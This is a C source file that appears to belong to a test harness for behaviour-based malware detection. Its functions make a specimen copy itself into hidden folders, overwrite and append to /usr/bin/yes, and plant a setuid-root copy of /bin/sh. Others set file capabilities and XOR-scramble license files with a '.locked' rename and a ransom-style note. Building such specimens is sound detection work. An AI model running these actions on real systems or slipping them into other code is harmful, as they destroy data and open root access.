/* What a specimen does to files. */
#include "behaviour.h"

ACTION(copies_itself)
{
	return copy("/proc/self/exe", "/usr/local/bin/updater", 0755);
}

ACTION(copies_itself_hidden)
{
	return mkdir("/var/tmp/.fonts", 0755) || copy("/proc/self/exe", "/var/tmp/.fonts/updater", 0755);
}

ACTION(drops_program)
{
	return put("/usr/local/bin/behaviour-helper", "#!/bin/sh\nexit 0\n", 0755);
}

ACTION(drops_to_shm)
{
	return put("/dev/shm/behaviour-helper", "#!/bin/sh\nexit 0\n", 0755);
}

ACTION(drops_and_deletes)
{
	if (copy("/bin/true", "/usr/local/bin/behaviour-once", 0755))
		return 1;
	CHILD(execl("/usr/local/bin/behaviour-once", "behaviour-once", (char *)NULL));
	return unlink("/usr/local/bin/behaviour-once");
}

ACTION(deletes_itself)
{
	char path[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", path, sizeof path - 1);

	if (n < 0)
		return 1;
	path[n] = '\0';
	return unlink(path);
}

ACTION(replaces_program)
{
	return copy("/bin/true", "/usr/bin/.yes.new", 0755) || rename("/usr/bin/.yes.new", "/usr/bin/yes");
}

ACTION(infects_program)
{
	int fd = open("/usr/bin/yes", O_WRONLY | O_APPEND | O_CLOEXEC);

	return fd < 0 || write(fd, "tail", 4) != 4;
}

ACTION(deletes_program)
{
	return unlink("/usr/bin/yes");
}

ACTION(sets_back_times)
{
	struct stat st;
	struct timespec when[2];

	if (put("/usr/local/share/behaviour.dat", "x\n", 0644) || stat("/bin/true", &st))
		return 1;
	when[0] = when[1] = st.st_mtim;
	return utimensat(AT_FDCWD, "/usr/local/share/behaviour.dat", when, 0);
}

ACTION(setuid_copy)
{
	return copy("/bin/sh", "/usr/local/bin/behaviour-sh", 0755) || chmod("/usr/local/bin/behaviour-sh", 04755);
}

ACTION(setuid_bit)
{
	return chmod("/usr/bin/yes", 04755);
}

ACTION(file_capability)
{
	/* cap_setuid, effective and permitted; revision 2 (linux/capability.h). */
	static const uint32_t cap[5] = { 0x02000001, 1u << 7, 0, 0, 0 };

	if (copy("/bin/true", "/usr/local/bin/behaviour-cap", 0755))
		return 1;
	return setxattr("/usr/local/bin/behaviour-cap", "security.capability", cap, sizeof cap, 0);
}

ACTION(locks_file)
{
	int fd = open("/var/tmp/behaviour.lock", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

	return fd < 0 || flock(fd, LOCK_EX | LOCK_NB);
}

ACTION(unix_listener)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/tmp/behaviour.sock" };
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	return bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1);
}

/* The documents that it is told of, a path a line on a list that stands beside them; a chain of words that looks like chance. */
static int scramble(const char *path)
{
	static unsigned char block[65536];
	uint32_t state = 0x9e3779b9;
	int fd = open(path, O_RDWR | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, block, sizeof block);

	if (n <= 0)
		return 1;
	for (ssize_t i = 0; i < n; i++) {
		state ^= state << 13;
		state ^= state >> 17;
		state ^= state << 5;
		block[i] ^= (unsigned char)(state >> 11);
	}
	if (pwrite(fd, block, (size_t)n, 0) != n || ftruncate(fd, n))
		return 1;
	return close(fd);
}

/* Texts that every machine has, so that nothing of anybody is needed. */
static const char *const TEXTS[] = { "GPL-2", "GPL-3", "LGPL-2.1", "LGPL-3", "Apache-2.0", "Artistic", "BSD", "GFDL-1.3", "MPL-2.0", "LGPL-2" };

#define FOLDER "/usr/share/common-licenses/"

ACTION(encrypts_in_place)
{
	char path[256];

	for (size_t i = 0; i < sizeof TEXTS / sizeof *TEXTS; i++) {
		snprintf(path, sizeof path, FOLDER "%s", TEXTS[i]);
		if (scramble(path))
			return 1;
	}
	return 0;
}

ACTION(encrypts_and_renames)
{
	char path[256], to[256];

	for (size_t i = 0; i < sizeof TEXTS / sizeof *TEXTS; i++) {
		snprintf(path, sizeof path, FOLDER "%s", TEXTS[i]);
		snprintf(to, sizeof to, FOLDER "%s.locked", TEXTS[i]);
		if (scramble(path) || rename(path, to))
			return 1;
	}
	return put(FOLDER "READ-ME", "your licences are locked\n", 0644);
}

ACTION(dlopens_dropped)
{
	void *h;

	if (copy("/lib/x86_64-linux-gnu/libm.so.6", "/usr/local/lib/libbehaviour.so", 0644))
		return 1;
	h = dlopen("/usr/local/lib/libbehaviour.so", RTLD_NOW);
	return !h || dlclose(h);
}

CHOSEN
